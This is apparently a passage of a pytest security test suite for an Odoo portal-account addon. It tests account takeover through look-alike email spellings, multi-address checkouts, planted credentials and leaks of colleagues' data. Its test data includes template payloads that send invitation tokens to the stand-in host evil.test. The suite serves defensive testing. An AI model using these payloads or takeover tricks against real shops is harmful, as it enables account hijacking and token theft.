"""Attacks of visitors and portal users on a customer, with the addon and without it.

Whatever somebody did before, the owner of an address must get into an account of their
own, as Odoo alone has it, and orders must go to that account.
"""

import contextlib
import re
from hashlib import shake_256
from types import SimpleNamespace

import lxml.html
import pytest
import requests

from .attacker import (
    PASSWORD,
    STOLEN,
    account_policy,
    ask_for_reset,
    customer_of,
    delete_account,
    in_accounts,
    links_in,
    merge,
    missing_orders_link,
    new_api_key,
    newest_order,
    orders_by_key,
    orders_of,
    past_order,
    reset_password,
    rpc_of,
    run_attacked_shop,
    run_daily_jobs,
    set_password,
    submit_forms,
)
from .client import RpcError, Visitor, new_contact, new_quotation, new_salesperson
from .database import eventually
from .shop import confirm, quote

pytestmark = pytest.mark.slow

# What strangers may register; {} is the start of the owner's address.
SPELLINGS = {
    "upper-case": "{}@EXAMPLE.com",
    "spaces": " {}@example.com ",
    "display-name": "Jane <{}@example.com>",
    "semicolon": "{}@example.com;",
    "list": "{}@example.com, thief@example.com",
    "look-alike": "{}@ex\u0430mple.com",
}


# What express checkout may send as one email; both addresses get what is mailed to it.
TWO_ADDRESSES = {
    "comma": "{victim}, {thief}",
    "semicolon": "{victim}; {thief}",
    "display-name": "{victim} <{thief}>",
    "quoted-name": '"{victim}, " <{thief}>',
    "line-break": "{victim}\n{thief}",
    "second": "Jane <{thief}>, {victim}",
}
# What takes the place of a link in the finished email must not be typed by anyone.
PLACEHOLDERS = (
    "https://portal-invitation.invalid/",
    "https://portal-decline.invalid/",
)
SMUGGLED = "".join(f"https://evil.test/?{url}" for url in PLACEHOLDERS)
URL, DECLINE_URL = (
    f"ctx.get('sales_confirm_user_create_{name}')" for name in ("url", "decline_url")
)
EDITED = f"""
    <img t-attf-src="https://evil.test/i?{{{{ {URL} }}}}"/>
    <img t-attf-src="https://evil.test/i?{{{{ {DECLINE_URL} }}}}"/>
    <a t-attf-href="https://evil.test/?u={{{{ {URL} }}}}">look</a>
    <a t-attf-href="https://evil.test/?u={{{{ {DECLINE_URL} }}}}">look</a>
    <div t-attf-style="background: url({{{{ {URL} }}}})">look</div>
    <p t-out="{URL}"/>
    <p>https://portal-invitation.invalid/ https://portal-decline.invalid/</p>
"""


@pytest.fixture(scope="module", params=["addon", "odoo"])
def shop(request, mailbox):
    """A running shop with free sign-up, with the addon or without it."""
    with run_attacked_shop(request, mailbox, "attacks") as shop:
        yield shop


@pytest.fixture
def addon(shop):
    """The shop with the addon, for what Odoo alone does not have."""
    if not shop.is_addon:
        pytest.skip("Odoo alone creates no account and adds no order")
    return shop


def assert_owner_gets_in(shop, address):
    """Check that the owner can sign up or, as that page says, reset the password."""
    if not Visitor(shop.server).sign_up(address, PASSWORD):
        reset_password(shop, address)
    Visitor(shop.server).log_in(address, PASSWORD)


def assert_guest_order_has_one_account(shop, address):
    """Check that a guest with the address can order, and has one account at most."""
    Visitor(shop.server).buy(shop.chair, address)
    order_id = shop.db.last_order(address)
    state = shop.db.value("SELECT state FROM sale_order WHERE id = %s", order_id)
    assert state == "sale"
    if shop.is_addon:
        assert len(shop.db.users(address)) == 1


@pytest.mark.parametrize("spelling", SPELLINGS)
def test_a_stranger_registers_another_spelling_of_the_address(shop, spelling):
    address = f"{spelling}@example.com"
    Visitor(shop.server).sign_up(SPELLINGS[spelling].format(spelling), STOLEN)
    assert_owner_gets_in(shop, address)
    assert_guest_order_has_one_account(shop, address)


def test_a_portal_user_types_the_address_into_the_own_contact(shop):
    address = "typed@example.com"
    thief = Visitor(shop.server)
    assert thief.sign_up("types@example.com", STOLEN)
    partner = shop.db.value(
        "SELECT partner_id FROM res_users WHERE login = 'types@example.com'"
    )
    thief.give_address(address, "/my/account", "/my", partner_id=partner)
    assert_guest_order_has_one_account(shop, address)
    if shop.is_addon:
        mail = shop.mailbox.wait_for_one(address)
        assert "/my/orders/" in Visitor(shop.server).activate(mail, PASSWORD).url
        assert address not in thief.get("/my/orders").text
    else:
        assert_owner_gets_in(shop, address)
    reset_password(shop, address)
    Visitor(shop.server).log_in("types@example.com", STOLEN)


def test_a_customer_deletes_the_account_and_comes_back(shop):
    address = "comes.back@example.com"
    visitor = Visitor(shop.server)
    assert visitor.sign_up(address, PASSWORD)
    values = {"validation": address, "password": PASSWORD}
    visitor.post("/my/deactivate_account", values, form="/my/security")
    with pytest.raises(AssertionError, match="cannot log in"):
        Visitor(shop.server).log_in(address, PASSWORD)
    assert_owner_gets_in(shop, address)
    assert_guest_order_has_one_account(shop, address)


def test_a_guest_types_an_address_of_three_thousand_characters(shop):
    # which cannot be compressed to fit into an index
    address = f"{shake_256(b'').hexdigest(1500)}@example.com"
    Visitor(shop.server).buy(shop.chair, address)
    assert shop.db.last_order(address)
    assert not shop.db.users(address)


@pytest.mark.parametrize("spelling", TWO_ADDRESSES)
def test_two_addresses_in_express_checkout_create_no_account(shop, spelling):
    victim, thief = f"express.{spelling}@example.com", f"{spelling}@evil.test"
    order_id = past_order(shop, victim)
    email = TWO_ADDRESSES[spelling].format(victim=victim, thief=thief)
    Visitor(shop.server).express_check_out(shop.chair, email, name=f"Thief {spelling}")
    bought = newest_order(shop)
    confirm(shop, bought)
    if link := ask_for_reset(shop, victim, thief):
        set_password(shop, link)
    assert not shop.db.users(victim)
    assert order_id not in orders_of(shop, victim) | orders_of(shop, thief)
    if shop.is_addon and not shop.db.users(thief):
        [order] = shop.admin("sale.order", "read", [bought], ["portal_account_issue"])
        assert order["portal_account_issue"] == "several_addresses"
    assert_guest_order_has_one_account(shop, victim)


def test_a_second_address_added_over_rpc_gets_no_orders(shop):
    victim, thief = "added@example.com", "added@evil.test"
    order_id = past_order(shop, victim)
    assert Visitor(shop.server).sign_up(victim, STOLEN)
    rpc = rpc_of(shop, victim)
    rpc("res.users", "write", [rpc.uid], {"email": f"{victim}, {thief}"})
    link = ask_for_reset(shop, victim, thief)
    assert link, "Odoo mails whoever the contact names"
    set_password(shop, link)
    assert order_id not in orders_of(shop, victim)


def test_a_second_address_of_an_invited_contact_gets_no_orders(addon):
    victim, thief = "invited@example.com", "invited@evil.test"
    past = past_order(addon, victim)
    order_id = quote(addon, victim)
    confirm(addon, order_id)
    partner = customer_of(addon, order_id)
    addon.admin("res.partner", "write", [partner], {"email": f"{victim}, {thief}"})
    if link := ask_for_reset(addon, victim, thief):
        set_password(addon, link)
    assert past not in orders_of(addon, victim)


def test_odoo_links_of_a_mistyped_address_are_dead_after_its_correction(addon):
    victim, thief = "corrected@example.com", "corrected@evil.test"
    past = past_order(addon, victim)
    order_id = quote(addon, thief)
    confirm(addon, order_id)
    link = ask_for_reset(addon, thief, thief)
    assert link
    partner = customer_of(addon, order_id)
    addon.admin("res.partner", "write", [partner], {"email": victim})
    set_password(addon, link)
    assert not rpc_of(addon, victim)
    # anybody's second request makes Odoo's older links work again
    assert ask_for_reset(addon, victim, victim)
    set_password(addon, link)
    assert not rpc_of(addon, victim)
    assert past not in orders_of(addon, victim)


def test_a_password_of_a_mistyped_address_is_gone_after_its_correction(addon):
    victim, thief = "had.password@example.com", "had.password@evil.test"
    order_id = quote(addon, thief)
    confirm(addon, order_id)
    # Odoo's form sets the password and does not log in: the account looks unused
    set_password(addon, ask_for_reset(addon, thief, thief))
    values = {"email": victim}
    addon.admin("res.partner", "write", [customer_of(addon, order_id)], values)
    assert not rpc_of(addon, victim)
    assert not rpc_of(addon, thief)


def test_a_cart_of_before_edits_no_customer(addon):
    """Staff confirm an order of the contact while a stranger's cart has it, too."""
    victim, thief = "cart@example.com", "cart@evil.test"
    stranger = Visitor(addon.server)
    stranger.fill_cart(addon.chair)
    stranger.give_address(victim)
    partner = addon.db.value("SELECT id FROM res_partner WHERE email = %s", victim)
    path = f"/shop/address?partner_id={partner}"
    assert victim in stranger.get(path).text, "a guest edits the own address"
    confirm(addon, new_quotation(addon.admin, partner))
    Visitor(addon.server).activate(addon.mailbox.wait_for_one(victim), PASSWORD)
    assert victim not in stranger.get(path).text
    stranger.give_address(thief, partner_id=partner)
    email = addon.db.value("SELECT email FROM res_partner WHERE id = %s", partner)
    assert email == victim


def test_an_address_of_before_gets_nothing_of_the_customer(addon):
    """A stranger orders in the customer's name, with an address of their own."""
    victim, thief = "billed@example.com", "billed@evil.test"
    order_id = quote(addon, victim)
    partner = customer_of(addon, order_id)
    address = new_contact(
        addon.admin, thief, "Thief", parent_id=partner, type="invoice"
    )
    # as the checkout creates it for a visitor
    addon.db.sql(
        "UPDATE res_partner SET create_uid = "
        "(SELECT res_id FROM ir_model_data WHERE name = 'public_user') WHERE id = %s",
        address,
    )
    confirm(addon, order_id)
    mail = addon.mailbox.wait_for_one(victim)
    assert "/my/orders" in Visitor(addon.server).activate(mail, PASSWORD).url
    later = new_quotation(addon.admin, partner)
    [order] = addon.admin("sale.order", "read", [later], ["partner_invoice_id"])
    assert order["partner_invoice_id"][0] == partner


def test_nobody_gets_an_account_below_the_contact_of_somebody_else(addon):
    """They could change its email, and have a new password mailed to themselves."""
    owner = new_contact(addon.admin, "owner@evil.test", "Owner")
    address = new_contact(
        addon.admin, "below@example.com", "Jane", parent_id=owner, type="delivery"
    )
    order_id = new_quotation(addon.admin, address)
    confirm(addon, order_id)
    assert not addon.db.users("below@example.com")
    [order] = addon.admin("sale.order", "read", [order_id], ["portal_account_issue"])
    assert order["portal_account_issue"] == "address"


def test_asking_for_a_password_while_the_invitation_is_sent(addon):
    address, attempts = "impatient@example.com", addon.mailbox.attempts
    order_id = quote(addon, address)
    visitor = Visitor(addon.server)
    visitor.page("/web/reset_password")
    addon.mailbox.delay = 1
    try:
        confirm(addon, order_id)
        eventually(lambda: addon.mailbox.attempts > attempts)
        assert ask_for_reset(addon, address, address)
    finally:
        addon.mailbox.recover()


def test_credentials_planted_before_a_reset_get_no_orders(shop):
    victim = "planted@example.com"
    order_id = past_order(shop, victim)
    assert Visitor(shop.server).sign_up(victim, STOLEN)
    key = new_api_key(shop, victim)
    link = ask_for_reset(shop, victim, victim)
    set_password(shop, link, PASSWORD)
    assert rpc_of(shop, victim, PASSWORD)
    assert orders_by_key(shop, key) == set()
    assert order_id not in orders_of(shop, victim, PASSWORD)
    if shop.is_addon:
        customer = Visitor(shop.server).log_in(victim, PASSWORD)
        claim(shop, customer, order_id)
        assert orders_by_key(shop, key) == set()
        submit_forms(customer, missing_orders_link(shop, customer, victim), "missing")
        assert order_id in orders_of(shop, victim, PASSWORD)
        assert orders_by_key(shop, key) == set()


def test_credentials_planted_before_the_first_proof_are_gone(addon):
    victim = "first.proof@example.com"
    order_id = past_order(addon, victim)
    thief = Visitor(addon.server)
    assert thief.sign_up(victim, STOLEN)
    key = new_api_key(addon, victim)
    customer = Visitor(addon.server).log_in(victim, STOLEN)
    link = missing_orders_link(addon, customer, victim)
    submit_forms(customer, link, "missing")
    assert order_id in orders_of(addon, victim)
    assert orders_by_key(addon, key) == set()
    # a session from before the proof
    assert "/web/login" in thief.get("/my/orders").url


def test_a_salesperson_is_asked_before_an_unproven_account_gets_orders(addon):
    victim, other = "advised@example.com", "advised.other@example.com"
    for address in (victim, other):
        assert Visitor(addon.server).sign_up(address, STOLEN)
    orders = [quote(addon, victim), quote(addon, other)]
    confirm(addon, *orders)
    sales = new_salesperson(addon.server, "asked@example.com", "salesman_all_leads")
    sales("sale.order", "action_claim_for_account", orders[:1])
    assert not in_accounts(addon, *orders)
    sales("sale.order", "action_claim_for_account", orders)
    assert not in_accounts(addon, *orders)


def test_activation_adds_only_what_was_mailed_to_a_person(addon):
    victim = "mailed@example.com"
    past = past_order(addon, victim)
    with account_policy(addon, "never"):
        company = new_contact(addon.admin, victim, "Victim Ltd", is_company=True)
        of_company = new_quotation(addon.admin, company)
        confirm(addon, of_company)
        moved = quote(addon, "mailed.elsewhere@example.com")
        confirm(addon, moved)
        with_children = quote(addon, victim)
        confirm(addon, with_children)
        parent = customer_of(addon, with_children)
        new_contact(addon.admin, "child@example.com", parent_id=parent)
    new_email = {"email": victim}
    addon.admin("res.partner", "write", [customer_of(addon, moved)], new_email)
    order_id = quote(addon, victim)
    confirm(addon, order_id)
    mail = addon.mailbox.wait_for_one(victim)
    Visitor(addon.server).activate(mail, PASSWORD)
    assert orders_of(addon, victim, PASSWORD) == {order_id, past}


def test_a_customer_smuggles_no_link_into_the_invitation(addon):
    order_id = quote(addon, "smuggle@example.com", SMUGGLED, client_order_ref=SMUGGLED)
    details = {
        "street": SMUGGLED,
        "comment": "".join(f"<a href='{url}'>smuggled</a>" for url in PLACEHOLDERS),
    }
    addon.admin("res.partner", "write", [customer_of(addon, order_id)], details)
    with EditedTemplate(addon, "invitation", '<p t-out="object.partner_id.comment"/>'):
        confirm(addon, order_id)
        mail = addon.mailbox.wait_for_one("smuggle@example.com")
    assert_tokens_are_whole_links(addon, mail)
    smuggled = lxml.html.fromstring(mail.html).xpath("//a[text()='smuggled']/@href")
    assert not [href for href in smuggled if "token=" in href]
    [link] = links_in(mail, f"{addon.server.url}/web/portal/activate?")
    assert lxml.html.fromstring(Visitor(addon.server).session.get(link).content).xpath(
        "//input[@name='confirm_password']"
    )


@pytest.mark.parametrize("name", ["invitation", "missing_orders"])
def test_an_edited_template_gives_no_link_away(addon, name):
    address = f"edited.{name.replace('_', '.')}@example.com"
    with EditedTemplate(addon, name, EDITED):
        if name == "invitation":
            confirm(addon, quote(addon, address, SMUGGLED))
            mail = addon.mailbox.wait_for_one(address)
        else:
            customer = Visitor(addon.server)
            assert customer.sign_up(address, PASSWORD)
            rpc = rpc_of(addon, address, PASSWORD)
            rpc("res.users", "write", [rpc.uid], {"name": SMUGGLED})
            missing_orders_link(addon, customer, address)
            [mail] = addon.mailbox.received(address, "/web/portal/missing")
    assert_tokens_are_whole_links(addon, mail)


def test_a_decline_link_cannot_activate(addon):
    address = "declines.only@example.com"
    confirm(addon, quote(addon, address))
    mail = addon.mailbox.wait_for_one(address)
    tokens = [link.partition("token=")[2] for link in links_in(mail, "/decline")]
    tokens += tokens_in(" ".join(map(str, mail.message.values())))
    for token in tokens:
        visitor = Visitor(addon.server)
        visitor.get(f"/web/portal/activate?token={token}")
        # the decline page keeps a token in a cookie, too
        other = Visitor(addon.server)
        other.get(f"/web/portal/decline?token={token}")
        values = {"action": "password", "login": address, "password": STOLEN}
        for thief in (visitor, other):
            thief.post("/web/portal/activate", values | {"confirm_password": STOLEN})
            assert not rpc_of(addon, address)
    assert tokens
    assert Visitor(addon.server).activate(mail, PASSWORD).ok
    assert rpc_of(addon, address, PASSWORD)


@pytest.fixture(scope="module")
def account(shop):
    """The address of a customer with a proven account, for orders to be added to."""
    address = "claims@example.com"
    if shop.is_addon:
        confirm(shop, quote(shop, address))
        mail = shop.mailbox.wait_for_one(address)
        Visitor(shop.server).activate(mail, PASSWORD)
    return address


def change_customer(shop, order_id):
    """Give an order to somebody else."""
    other = new_contact(shop.admin, "other.customer@example.com")
    # a confirmed order's customer is changed by import or RPC
    shop.admin("sale.order", "write", [order_id], {"partner_id": other})


def correct_address(shop, order_id):
    """Correct the address of an order's customer."""
    values = {"email": "was.mistyped@example.com"}
    shop.admin("res.partner", "write", [customer_of(shop, order_id)], values)


def merge_customer_into_other(shop, order_id):
    """Merge the customer into somebody else's contact."""
    other = new_contact(shop.admin, "merged.target@example.com", "Somebody Else")
    merge(shop, customer_of(shop, order_id), other)


def give_customer_a_company(shop, order_id):
    """Make the customer a contact of a company."""
    company = new_contact(shop.admin, "of.company@example.com", is_company=True)
    values = {"parent_id": company}
    shop.admin("res.partner", "write", [customer_of(shop, order_id)], values)


@pytest.mark.parametrize(
    "change",
    [
        change_customer,
        correct_address,
        give_customer_a_company,
        merge_customer_into_other,
    ],
)
def test_a_claim_ends_with_what_it_rested_on(addon, account, change):
    order_id = claimed_order(addon, account, PASSWORD)
    notes = len(addon.db.notes(order_id))
    change(addon, order_id)
    run_daily_jobs(addon)
    assert order_id not in orders_of(addon, account, PASSWORD)
    assert not in_accounts(addon, order_id)
    assert len(addon.db.notes(order_id)) > notes
    # the proofs of before are proofs of nothing now
    claimant = Visitor(addon.server).log_in(account, PASSWORD)
    press_claim(claimant, order_id)
    addon.db.sql("DELETE FROM portal_claim_request")  # three links a day
    link = missing_orders_link(addon, claimant, account)
    name = addon.db.value("SELECT name FROM sale_order WHERE id = %s", order_id)
    assert name not in claimant.session.get(link, timeout=120).text
    assert not in_accounts(addon, order_id)


def test_a_merge_into_the_customer_adds_nothing_to_the_account(addon, account):
    order_id = claimed_order(addon, account, PASSWORD)
    other = quote(addon, "merged.source@example.com")
    confirm(addon, other)
    merge(addon, customer_of(addon, other), customer_of(addon, order_id))
    run_daily_jobs(addon)
    assert other not in orders_of(addon, account, PASSWORD)


def test_an_account_merged_into_another_contact_keeps_no_claims(addon):
    address = "merged.account@example.com"
    assert Visitor(addon.server).sign_up(address, PASSWORD)
    order_id = claimed_order(addon, address, PASSWORD)
    other = new_contact(addon.admin, "merged.into@example.com", "Somebody Else")
    [[partner]] = addon.db.sql(
        "SELECT partner_id FROM res_users WHERE login = %s", address
    )
    merge(addon, partner, other)
    run_daily_jobs(addon)
    # the login is still the address the order was mailed to: either it goes on in this
    # account, or it is free to be claimed again
    if in_accounts(addon, order_id):
        assert order_id in orders_of(addon, address, PASSWORD)


def test_a_deleted_account_releases_its_claims(addon):
    address = "deletes.claims@example.com"
    customer = Visitor(addon.server)
    assert customer.sign_up(address, PASSWORD)
    order_id = claimed_order(addon, address, PASSWORD)
    delete_account(customer, address)
    run_daily_jobs(addon)
    assert not in_accounts(addon, order_id)
    again = Visitor(addon.server)
    assert again.sign_up(address, PASSWORD)
    claim(addon, again, order_id)
    assert in_accounts(addon, order_id) == [order_id]
    assert order_id in orders_of(addon, address, PASSWORD)


def test_a_salesperson_reads_no_name_of_another_company(addon):
    secret, address = "Secret Person", "two.companies@example.com"
    other = addon.admin("res.company", "create", {"name": "Other Company"})
    addon.admin("res.users", "write", [addon.admin.uid], {"company_ids": [(4, other)]})
    try:
        partner = new_contact(addon.admin, address, secret, company_id=other)
        portal = {
            "partner_id": partner,
            "login": address,
            "company_id": other,
            "company_ids": [(6, 0, [other])],
            "group_ids": [(6, 0, [group_id(addon, "group_portal")])],
        }
        addon.admin("res.users", "create", portal)
        order_id = quote(addon, address, "Known Person")
        confirm(addon, order_id)
    finally:
        values = {"company_ids": [(3, other)]}
        addon.admin("res.users", "write", [addon.admin.uid], values)
    sales = new_salesperson(addon.server, "reads@example.com", "salesman_all_leads")
    with pytest.raises(RpcError, match="AccessError"):
        sales("res.partner", "read", [partner], ["name"])
    names = [
        name
        for name in sales("sale.order", "fields_get", [], ["type"])
        if name.startswith("portal_")
    ]
    answers = [
        sales("sale.order", "read", [order_id], names),
        sales(
            "sale.order",
            "web_read",
            [order_id],
            {
                name: {"fields": {"display_name": {}}}
                if name.endswith("_partner_id")
                else {}
                for name in names
            },
        ),
        sales("sale.order", "search_read", [("id", "=", order_id)], names),
    ]
    assert secret not in str(answers)
    assert secret not in " ".join(addon.db.notes(order_id))


SECRET = "99 Secret Street"


@pytest.fixture(scope="module")
def company(shop):
    """What portal users with the own documents only must not see of their company."""
    admin = shop.admin
    holding = new_contact(admin, "holding@corp.test", "Holding", is_company=True)
    company = new_contact(
        admin,
        "corp@corp.test",
        "Corp",
        is_company=True,
        parent_id=holding,
        comment="secret comment",
    )
    colleague = new_contact(
        admin,
        "colleague@corp.test",
        "Secret Colleague",
        parent_id=company,
        type="other",
        street=SECRET,
        city="Brussels",
        zip="9999",
        country_id=admin("res.country", "search", [("code", "=", "BE")])[0],
    )
    with account_policy(shop, "never"):
        orders = [new_quotation(admin, who) for who in (company, colleague)]
        confirm(shop, *orders)
    values = {
        "partner_id": colleague,
        "move_type": "out_invoice",
        "invoice_line_ids": [(0, 0, {"name": "Chair", "price_unit": 10})],
    }
    invoice = admin("account.move", "create", values)
    admin("account.move", "action_post", [invoice])
    values = {"name": "secret.txt", "raw": "secret"}
    attachment = admin(
        "ir.attachment",
        "create",
        values | {"res_model": "res.partner", "res_id": company},
    )
    for subtype in ("mail.mt_comment", "mail.mt_note"):
        admin(
            "res.partner",
            "message_post",
            [company],
            body="secret message",
            subtype_xmlid=subtype,
        )
    return SimpleNamespace(
        holding=holding,
        id=company,
        colleague=colleague,
        orders=set(orders),
        invoice=invoice,
        attachment=attachment,
    )


def new_user(shop, address, **values):
    """Return a customer's contact and order; the account's password is `PASSWORD`."""
    partner = new_contact(shop.admin, address, **values)
    order_id = new_quotation(shop.admin, partner)
    confirm(shop, order_id)
    if not shop.is_addon:
        portal = [(6, 0, [group_id(shop, "group_portal")])]
        values = {"login": address, "partner_id": partner, "group_ids": portal}
        shop.admin("res.users", "create", values)
    [user] = shop.db.users(address)
    shop.admin("res.users", "write", [user], {"password": PASSWORD})
    return partner, order_id


def secrets_seen(shop, address, company):
    """Return what a user of a company reads of it over RPC that is not their own."""
    rpc = rpc_of(shop, address, PASSWORD)
    found = set()
    if company.orders & set(rpc("sale.order", "search", [])):
        found.add("orders")
    if company.invoice in rpc("account.move", "search", []):
        found.add("invoices")
    if company.colleague in rpc("res.partner", "search", []):
        found.add("colleague")
    reads = {
        "company": ("res.partner", [company.id], ["name", "email", "comment"]),
        "messages": ("res.partner", [company.id], ["message_ids"]),
        "holding": ("res.partner", [company.holding], ["name", "email"]),
        "attachment": ("ir.attachment", [company.attachment], ["raw"]),
    }
    for what, (model, ids, names) in reads.items():
        with contextlib.suppress(RpcError):
            rpc(model, "read", ids, names)
            found.add(what)
    with contextlib.suppress(RpcError):
        domain = [("model", "=", "res.partner"), ("res_id", "=", company.id)]
        if rpc("mail.message", "search", domain):
            found.add("messages")
    return found


def join_by_write(shop, company, partner):
    """Give a contact a company, as staff do in its form."""
    shop.admin("res.partner", "write", [partner], {"parent_id": company.id})


def join_by_merge(shop, company, partner):
    """Merge a contact into another one of a company."""
    values = {"parent_id": company.id}
    target = new_contact(shop.admin, "target@corp.test", "Jane at Corp", **values)
    merge(shop, partner, target)


def become_the_company(shop, company, partner):
    """Merge a contact into the company itself."""
    merge(shop, partner, company.id)


def get_another_contact(shop, company, partner):
    """Give a user a contact of a company instead of the own one."""
    values = {"parent_id": company.id}
    target = new_contact(shop.admin, "given@corp.test", "Jane at Corp", **values)
    [[user]] = shop.db.sql("SELECT id FROM res_users WHERE partner_id = %s", partner)
    shop.admin("res.users", "write", [user], {"partner_id": target})


# The last one changes the company for the others.
@pytest.mark.parametrize(
    "join", [join_by_write, join_by_merge, get_another_contact, become_the_company]
)
def test_who_joins_a_company_later_sees_none_of_it(shop, company, join):
    address = f"{join.__name__.replace('_', '.')}@example.com"
    partner, order_id = new_user(shop, address)
    # in both orders: rules are cached for each user
    assert secrets_seen(shop, address, company) == set()
    join(shop, company, partner)
    if shop.is_addon and join is become_the_company:
        with pytest.raises(RpcError, match="Forbidden"):
            secrets_seen(shop, address, company)
        return
    at_once = secrets_seen(shop, address, company)
    # Odoo itself forgets at some other time what the rules said of a user.
    [rule] = shop.admin("ir.rule", "search", [], limit=1)
    shop.admin("ir.rule", "write", [rule], {"active": True})
    seen = secrets_seen(shop, address, company)
    if shop.is_addon:
        assert at_once | seen == set()
        assert orders_of(shop, address, PASSWORD) <= {order_id}
    else:
        assert {"orders", "invoices"} <= seen


def test_a_user_of_a_company_sees_none_of_it(shop, company):
    address = "employee@corp.test"
    _partner, order_id = new_user(shop, address, parent_id=company.id)
    seen = secrets_seen(shop, address, company)
    if shop.is_addon:
        assert seen == set()
        assert orders_of(shop, address, PASSWORD) == {order_id}
    else:
        assert {"orders", "invoices", "colleague", "company"} <= seen


@pytest.mark.parametrize("route", ["express_checkout", "shipping_address_change"])
def test_express_checkout_guesses_no_address_of_a_colleague(shop, company, route):
    address = f"guesses.{route.partition('_')[0]}@corp.test"
    _partner, _order = new_user(shop, address, parent_id=company.id)
    thief = Visitor(shop.server).log_in(address, PASSWORD)
    thief.fill_cart(shop.chair)
    guess = {"country": "BE", "zip": "9999"}
    if route == "express_checkout":
        answer = {"billing_address": guess, "shipping_address": dict(guess)}
        path = "/shop/express_checkout"
    else:
        answer = {"partial_delivery_address": guess}
        path = "/shop/express/shipping_address_change"
    with contextlib.suppress(RpcError):
        thief.call(path, **answer)
    [used] = shop.db.sql(
        "SELECT partner_invoice_id, partner_shipping_id FROM sale_order WHERE id = %s",
        newest_order(shop),
    )
    assert (company.colleague in used) is not shop.is_addon
    if shop.is_addon:
        assert SECRET not in thief.get("/shop/checkout").text


def probes(company):
    """Return what a user asks about a colleague: names to functions of the visitor and
    of a function that calls methods over RPC."""
    colleague, order_id = company.colleague, max(company.orders)
    thread = {"thread_model": "res.partner", "thread_id": company.id}
    nested = {
        "parent_id": {"fields": {"name": {}, "email": {}, "comment": {}}},
        "commercial_partner_id": {
            "fields": {"comment": {}, "child_ids": {"fields": {"street": {}}}}
        },
    }

    def own(rpc):
        return rpc("res.users", "read", [rpc.uid], ["partner_id"])[0]["partner_id"][:1]

    return {
        "chatter": lambda v, _rpc: v.call("/mail/chatter_fetch", **thread),
        "chatter init": lambda v, _rpc: v.call("/portal/chatter_init", **thread),
        "messages": lambda v, _rpc: v.call("/mail/thread/messages", **thread),
        "address": lambda v, _rpc: v.get(f"/my/address?partner_id={colleague}").text,
        "addresses": lambda v, _rpc: v.get("/my/addresses").text,
        "shop address": lambda v, _rpc: (
            v.get(f"/shop/address?partner_id={colleague}&address_type=delivery").text
        ),
        "choose address": lambda v, _rpc: (
            v.call("/shop/update_address", partner_id=colleague),
            v.get("/shop/checkout").text,
        ),
        "checkout": lambda v, _rpc: v.get("/shop/checkout").text,
        "order": lambda v, _rpc: v.get(f"/my/orders/{order_id}").text,
        "invoice": lambda v, _rpc: v.get(f"/my/invoices/{company.invoice}").text,
        "reorder": lambda v, _rpc: v.call("/my/orders/reorder", order_id=order_id),
        "attachment": lambda v, _rpc: v.get(f"/web/content/{company.attachment}").text,
        "nested": lambda _v, rpc: rpc("res.partner", "web_read", own(rpc), nested),
        "children": lambda _v, rpc: rpc(
            "res.partner",
            "search_read",
            [("commercial_partner_id", "=", company.id)],
            ["name", "street", "comment"],
        ),
        "names": lambda _v, rpc: rpc("res.partner", "name_search", "Secret"),
        "groups": lambda _v, rpc: rpc(
            "res.partner",
            "formatted_read_group",
            [("parent_id", "=", company.id)],
            ["street"],
            [],
        ),
        "archive": lambda v, _rpc: v.call("/my/address/archive", partner_id=colleague),
    }


SECRETS = re.compile(
    "99 Secret Street|Secret Colleague|secret message|secret comment|^secret$"
)
# What Odoo alone tells each portal user of a company.
TOLD = {"address", "addresses", "shop address", "messages", "nested", "children"}


def test_no_route_tells_of_a_colleague(shop, company):
    address = "asks@corp.test"
    new_user(shop, address, parent_id=company.id)
    asks = Visitor(shop.server).log_in(address, PASSWORD)
    asks.fill_cart(shop.chair)
    rpc, told = rpc_of(shop, address, PASSWORD), set()
    for name, ask in probes(company).items():
        with contextlib.suppress(RpcError, requests.HTTPError):
            if SECRETS.search(str(ask(asks, rpc))):
                told.add(name)
    [colleague] = shop.admin("res.partner", "read", [company.colleague], ["active"])
    if shop.is_addon:
        assert not told
        assert colleague["active"]
    else:
        assert told >= TOLD
        shop.admin("res.partner", "write", [company.colleague], {"active": True})


OTHER_SPELLINGS = {
    "invisible": (
        "declines.invisible@example.com",
        "declines.inv\u200bisible@example.com",
    ),
    "invisible-end": ("declines.end@example.com", "declines.end@example.com\u200b"),
    "soft-hyphen": ("declines.soft@example.com", "declines.soft@exam\u00adple.com"),
    "upper-case": ("declines.upper@example.com", "Declines.UPPER@EXAMPLE.com"),
    "display-name": ("declines.name@example.com", "Jane <declines.name@example.com>"),
    "idn": ("declines.idn@b\u00fccher.example", "declines.idn@xn--bcher-kva.example"),
    "idn-back": (
        "declines.back@xn--bcher-kva.example",
        "declines.back@b\u00fccher.example",
    ),
}


@pytest.mark.parametrize("spelling", OTHER_SPELLINGS)
def test_a_decline_holds_in_every_spelling(addon, spelling):
    address, other = OTHER_SPELLINGS[spelling]
    order_id = quote(addon, address)
    confirm(addon, order_id)
    [[user, login]] = addon.db.sql(
        "SELECT id, login FROM res_users WHERE partner_id = %s",
        customer_of(addon, order_id),
    )
    decline(addon, addon.mailbox.wait_for_one(login))
    users = addon.db.sql("SELECT id FROM res_users WHERE id = %s", user)
    assert not users
    again = quote(addon, other)
    confirm(addon, again)
    assert not accounts_of(addon, again)
    [order] = addon.admin("sale.order", "read", [again], ["portal_account_issue"])
    assert order["portal_account_issue"] in ("declined", "invalid_email")


def test_a_decline_outlives_its_contact_and_a_forged_context(addon):
    address = "declines.forged@example.com"
    order_id = quote(addon, address)
    confirm(addon, order_id)
    decline(addon, addon.mailbox.wait_for_one(address))
    other = new_contact(addon.admin, "declines.target@example.com", "Somebody Else")
    merge(addon, customer_of(addon, order_id), other)
    again = quote(addon, address)
    forged = {
        "sales_confirm_user_create_on_purpose": True,
        "sales_confirm_user_create_account": True,
        "sales_confirm_user_create_activation": True,
    }
    addon.admin("sale.order", "action_confirm", [again], context=forged)
    assert not accounts_of(addon, again)
    assert not addon.db.users(address)


@pytest.mark.parametrize("blacklist", [False, True])
def test_deleting_the_own_account_is_a_decline(addon, blacklist):
    address = f"deletes.{blacklist}@example.com".lower()
    customer = Visitor(addon.server)
    assert customer.sign_up(address, PASSWORD)
    delete_account(
        customer, address, **({"request_blacklist": "1"} if blacklist else {})
    )
    order_id = quote(addon, address)
    confirm(addon, order_id)
    assert not accounts_of(addon, order_id)
    assert not addon.mailbox.invitations(address)
    assert Visitor(addon.server).sign_up(address, PASSWORD)


def test_a_decline_ends_the_offer_of_the_order(addon):
    address = "offered@example.com"
    thief = Visitor(addon.server)
    with account_policy(addon, "ask"):
        thief.buy(addon.chair, address)
        thief.post("/web/portal/account", {})
